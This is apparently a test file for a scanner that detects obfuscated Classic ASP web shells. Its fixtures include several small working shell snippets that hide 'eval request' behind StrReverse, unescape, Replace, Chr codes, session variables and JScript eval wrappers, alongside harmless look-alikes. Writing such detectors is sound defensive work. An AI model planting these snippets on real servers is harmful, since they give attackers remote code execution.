/**
 * Classic ASP: the code handed to Execute / Eval is evaluated when it is constant (string
 * pieces, Chr codes, unescape, StrReverse, Replace, variables holding constants, the page's
 * one-expression functions), request values carried in the session, eval of a constant that
 * names the request, and the page's own eval wrappers. Hand-written shells and look-alikes.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { envAt, foldExpr, pageFunctions } from '../../src/scan/analyzers/asp-fold.js';
import { findingOf, reasons } from './helpers.js';

function malicious(path: string, text: string, reason: RegExp): void {
  const f = findingOf(path, text);
  assert.equal(f?.verdict, 'malicious', `${path}: ${JSON.stringify(f?.evidence)}`);
  assert.ok(
    reasons(f).some((r) => reason.test(r)),
    `${path}: ${JSON.stringify(reasons(f))}`,
  );
}

test('asp fold: the evaluator reads literals, Chr, unescape, StrReverse, Replace, Mid and constants', () => {
  assert.deepEqual(foldExpr('"ab" & Chr(99) + ChrW(&H64)'), { text: 'abcd' });
  assert.deepEqual(foldExpr('unescape("a%20b%u0041")'), { text: 'a bA' });
  assert.deepEqual(foldExpr('StrReverse(")1(x")'), { text: 'x(1)' });
  assert.deepEqual(foldExpr('Replace("a0b0c", "0", "") & vbCrLf'), { text: 'abc\r\n' });
  assert.deepEqual(foldExpr('Mid("hello", 2, 3) & Left("abc", 1) & Right("xyz", 2)'), { text: 'ellayz' });
  assert.deepEqual(foldExpr('Chr(120 - 1) & String.fromCharCode(104, 105)'), { text: 'whi' });
  assert.deepEqual(foldExpr('eval("req" & "uest")("p")'), { request: true });
  assert.deepEqual(foldExpr('Convert.FromBase64String("aGk=")'), { text: 'hi' });
  assert.equal(foldExpr('"a" & x'), undefined);
  assert.equal(foldExpr('Foo("a")'), undefined);
  assert.equal(foldExpr('"unterminated'), undefined);
  const code = 'x = "e0v0a0l"\ny = 3\nx = Replace(x, "0", "")\nz = x & y\n';
  assert.deepEqual(
    [...envAt(code, code.length)],
    [
      ['x', 'eval'],
      ['y', '3'],
      ['z', 'eval3'],
    ],
  );
  const fns = pageFunctions('Function Rev(c)\n  Rev = StrReverse(c)\nEnd Function\nfunction run(s) { return eval(s, "unsafe"); }');
  assert.deepEqual(foldExpr('Rev("cba")', new Map(), fns), { text: 'abc' });
  assert.deepEqual([...fns.evaluators], ['run']);
});

test('asp fold: shells whose code is built from constants, carried in the session or run by a wrapper', () => {
  malicious('rev.asp', `<%Execute(StrReverse(")""p""(tseuqer lave"))%>`, /request input reaches eval$/);
  malicious('esc.asp', `<%ExecuteGlobal unescape("eval%20request%28%22p%22%29")%>`, /request input reaches eval$/);
  malicious('var.asp', `<%\ncode = "e#v#a#l r#e#q#u#e#s#t(""p"")"\ncode = Replace(code, "#", "")\nEval code\n%>`, /request input reaches eval/);
  malicious('fn.asp', `<%\nFunction Unmix(s) : Unmix = StrReverse(Replace(s, "~", "")) : End Function\nExecute Unmix(")~""p""(tse~uqer l~ave")\n%>`, /request input reaches eval/);
  malicious('sess.asp', `<%If Request("k") <> "" Then Session("k") = Request("k")\nIf Session("k") <> "" Then Execute Session("k")%>`, /request input reaches Execute/);
  malicious('named.asp', `<%Eval(Eval(Chr(114) & "equest")("p"))%>`, /request input reaches Eval \(request named by an evaluated constant\)/);
  malicious(
    'wrap.asp',
    `<script runat="server" language="JScript">\nfunction run(s) { var o = "un" + "safe"; return eval(s, o); }\n</script>\n<% run(Request.Item["p"]); %>`,
    /reaches eval through the page's wrapper run\(\)/,
  );
});

test('asp fold look-alikes: constant code that does nothing to the request, session values used as data', () => {
  assert.equal(findingOf('ok1.asp', `<%Execute(StrReverse(")(woN etirW.esnopseR"))%>`), undefined);
  assert.equal(findingOf('ok2.asp', `<%\nFunction Pad(s) : Pad = Right("00" & s, 2) : End Function\nExecute "x = " & Pad("7")\nResponse.Write x\n%>`), undefined);
  assert.equal(findingOf('ok3.asp', `<%If Request("lang") <> "" Then Session("lang") = Request("lang")\nResponse.Write Session("lang")\nExecute "Call Init()"\n%>`), undefined);
});
